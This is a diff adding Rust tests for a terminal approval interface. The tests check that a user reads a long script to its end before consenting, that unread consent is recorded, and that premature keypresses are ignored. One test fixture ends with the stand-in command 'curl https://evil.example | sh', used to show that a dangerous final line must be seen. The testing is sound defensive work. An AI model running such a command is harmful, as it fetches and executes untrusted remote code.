@@ -1,0 +1,154 @@
+//! A person's yes is to what they saw: reading before consent, and keys that come too early.
+
+use crossterm::event::KeyCode;
+use holdpoint_core::Decision;
+use holdpoint_core::decision::AnswerInput;
+use serde_json::json;
+
+use super::model::{Model, Screen};
+use super::news::{Effect, News, Taken};
+use super::scene::{approval, card, decision, draw, inbox, later, open, press, press_at};
+use super::update::update;
+
+/// An approval of a script that does not fit on the screen.
+fn long(number: u32) -> Decision {
+    let steps: Vec<String> = (1..=60).map(|n| format!("echo {n}")).collect();
+    let mut whole = serde_json::to_value(approval(number)).unwrap();
+    whole["subject"] = json!(format!("{}\ncurl https://evil.example | sh", steps.join("\n")));
+    whole["prompt"] = json!("Run the <tests> script?");
+    serde_json::from_value(whole).unwrap()
+}
+
+fn opened(waiting: &Decision) -> Model {
+    let mut model = inbox((80, 24), std::slice::from_ref(waiting));
+    open(&mut model, waiting, None);
+    model
+}
+
+#[track_caller]
+fn sent(effects: &[Effect]) -> &AnswerInput {
+    match effects {
+        [Effect::Send(_, input)] => input,
+        other => panic!("not one answer was sent: {other:?}"),
+    }
+}
+
+#[test]
+fn consent_waits_for_the_end_of_the_subject() {
+    let mut model = opened(&long(1));
+    let shown = draw(&model);
+    assert!(shown.contains("Subject\n  echo 1\n") && !shown.contains("curl"), "{shown}");
+    assert!(shown.contains("lines left to read before you consent (PgDn; U unread)"), "{shown}");
+    assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter shows the no");
+    let mut model = opened(&long(1));
+    assert_eq!(press(&mut model, "1"), []);
+    assert!(draw(&model).contains("lines of the subject are left to read first: PgDn. U consents unread."));
+    // Space and PgDn read on.
+    press(&mut model, " <pgdn><pgdn>");
+    assert!(draw(&model).contains("curl https://evil.example | sh"), "{}", draw(&model));
+    let input = sent(&press(&mut model, "1<enter>")).clone();
+    assert_eq!((input.values["c"].clone(), input.seen), (json!("yes"), Some(true)));
+}
+
+#[test]
+fn going_to_a_control_is_not_reading() {
+    let mut model = opened(&long(1));
+    press(&mut model, "k");
+    assert!(draw(&model).contains("> 1 Yes"), "{}", draw(&model));
+    assert_eq!(press(&mut model, "<enter>"), []);
+    assert!(draw(&model).contains("Read the subject to its end first: PgDn."), "{}", draw(&model));
+}
+
+#[test]
+fn the_subject_alone_read_to_its_end_counts() {
+    let mut model = opened(&long(1));
+    press(&mut model, "su");
+    assert!(card(&model).is_unread());
+    press(&mut model, "sGu");
+    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(true));
+}
+
+#[test]
+fn consent_unread_is_a_second_step_and_recorded() {
+    let mut model = opened(&long(1));
+    assert_eq!(press(&mut model, "1U"), []);
+    assert!(draw(&model).contains("You consent unread: the answer will say so."), "{}", draw(&model));
+    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(false));
+}
+
+#[test]
+fn refusing_needs_no_reading() {
+    let mut model = opened(&long(1));
+    press(&mut model, "2");
+    assert_eq!(sent(&press(&mut model, "<enter>")).values["c"], "no");
+    let mut model = opened(&long(1));
+    assert!(press(&mut model, "gno, smaller<c-s>").iter().any(|effect| matches!(effect, Effect::Send(..))));
+}
+
+#[test]
+fn a_short_subject_is_seen_at_once() {
+    let mut model = opened(&approval(1));
+    assert_eq!(sent(&press(&mut model, "1<enter>")).seen, Some(true));
+}
+
+#[test]
+fn from_the_list_consent_only_where_the_whole_subject_stands_there() {
+    let (small, large) = (approval(1), long(2));
+    let mut model = inbox((80, 24), &[small.clone(), large.clone()]);
+    assert!(draw(&model).contains("command: kubectl apply"), "{}", draw(&model));
+    assert_eq!(press(&mut model, "1"), [Effect::Open(small.id, Some(1))]);
+    model.screen = Screen::List;
+    press(&mut model, "j");
+    assert_eq!(press(&mut model, "1"), [Effect::Open(large.id, None)]);
+    model.screen = Screen::List;
+    assert_eq!(press(&mut model, "2"), [Effect::Open(large.id, Some(2))], "a no needs no reading");
+    // A low screen has no room for the subject.
+    model.screen = Screen::List;
+    press(&mut model, "k");
+    update(&mut model, News::Resized(80, 12));
+    assert!(!draw(&model).contains("kubectl"));
+    assert_eq!(press(&mut model, "1"), [Effect::Open(small.id, None)]);
+}
+
+#[test]
+fn a_run_of_keys_that_began_before_a_card_appeared_never_reaches_it() {
+    for gap in [0, 10, 60, 150, 249, 400, 599] {
+        let begin = if gap < 250 { gap } else { 100 };
+        let mut model = inbox((80, 24), &[approval(1)]);
+        model.screen = Screen::Opening(approval(1).id);
+        update(&mut model, super::scene::read(&approval(1)));
+        draw(&model);
+        model.arrival.drawn(later(0));
+        let mut at = begin - gap;
+        for key in ['1', '\r', '2', '\r', '1', '\r'] {
+            at += gap;
+            let key = if key == '\r' { KeyCode::Enter } else { KeyCode::Char(key) };
+            assert_eq!(press_at(&mut model, key, later(at)), [], "{gap} ms");
+        }
+        let shown = draw(&model);
+        assert!(shown.contains("What you pressed before this had appeared did nothing"), "{shown}");
+        assert!(shown.ends_with("just appeared …"), "{shown}");
+        // After a pause it is looked at.
+        assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(at + 610)), []);
+        assert_eq!(sent(&press_at(&mut model, KeyCode::Enter, later(at + 620))).values["c"], "yes");
+    }
+}
+
+#[test]
+fn keys_pressed_while_something_is_sent_or_opened_do_nothing_and_say_so() {
+    let (first, second) = (decision(1, &json!({})), decision(2, &json!({})));
+    let mut model = inbox((80, 24), &[first.clone(), second]);
+    open(&mut model, &first, None);
+    assert_eq!(press(&mut model, "2<enter>").len(), 2, "a draft, and the answer");
+    assert_eq!(press(&mut model, "<enter>"), []);
+    assert!(draw(&model).contains("Sending …"));
+    let taken = Taken { decision: first, next: None, replayed: false };
+    update(&mut model, News::Taken(Box::new(taken)));
+    model.arrival.drawn(later(2_000));
+    // The next decision is selected now; what was pressed before that does not open it.
+    assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(1_990)), []);
+    assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_100)), []);
+    assert_eq!(press_at(&mut model, KeyCode::Enter, later(2_700)).len(), 1);
+    assert_eq!(press_at(&mut model, KeyCode::Char('1'), later(2_701)), []);
+    assert!(draw(&model).contains("That key did nothing: the decision is being opened."), "{}", draw(&model));
+}
